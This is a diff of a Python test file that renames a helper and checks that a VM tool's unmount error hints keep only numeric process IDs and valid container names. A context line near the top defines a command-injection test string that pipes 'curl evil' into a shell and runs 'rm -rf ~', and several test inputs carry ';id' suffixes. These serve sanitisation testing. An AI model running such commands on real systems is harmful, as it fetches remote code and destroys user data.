@@ -16,9 +16,9 @@ from tests.support.serial_peer import guest
 EVIL = "1;curl evil|sh;x $(id) `id`\nrm -rf ~"
 
 
-def told(folder: Path, *lines: str) -> InvalidStateError:
+def unmount_error(folder: Path, *lines: str) -> InvalidStateError:
     paths = MachinePaths(folder)
-    answer = [f"{one}\n".encode() for one in (*lines, "folders let-go")]
+    answer = [f"{line}\n".encode() for line in (*lines, "folders let-go")]
     with guest(paths.line_socket, answer), pytest.raises(InvalidStateError) as caught:
         shared_folders.unmount(paths, "box")
     return caught.value
@@ -43,21 +43,23 @@ def told(folder: Path, *lines: str) -> InvalidStateError:
 def test_in_a_command_stand_only_numbers_of_processes_and_names_of_containers(
     tmp_path: Path, line: str, hint: str
 ) -> None:
-    assert told(tmp_path, line).hint == hint
+    assert unmount_error(tmp_path, line).hint == hint
 
 
 def test_those_that_are_sound_are_named_and_the_others_left_out(tmp_path: Path) -> None:
-    said = told(tmp_path, "held container web", "held container x;id", "held program 7 a", "held program 8;id b")
-    assert said.hint == "docker stop web && b2d ssh sudo kill 7 && b2d save, or b2d stop"
+    error = unmount_error(
+        tmp_path, "held container web", "held container x;id", "held program 7 a", "held program 8;id b"
+    )
+    assert error.hint == "docker stop web && b2d ssh sudo kill 7 && b2d save, or b2d stop"
 
 
 def test_a_crowd_in_the_way_is_not_listed_without_an_end(tmp_path: Path) -> None:
-    said = told(tmp_path, *(f"held program {one} x" for one in range(1, 1000)))
-    assert said.message.endswith("979 more") and len(said.message) < 1000 and len(said.hint) < 1000
+    error = unmount_error(tmp_path, *(f"held program {pid} x" for pid in range(1, 1000)))
+    assert error.message.endswith("979 more") and len(error.message) < 1000 and len(error.hint) < 1000
 
 
 def test_a_line_that_is_none_is_no_bug(tmp_path: Path) -> None:
-    assert told(tmp_path, "held ", "held program", "held container web").hint.startswith("docker stop web &&")
+    assert unmount_error(tmp_path, "held ", "held program", "held container web").hint.startswith("docker stop web &&")
 
 
 @pytest.mark.parametrize("state", [MachineState.SAVED, MachineState.RUNNING])
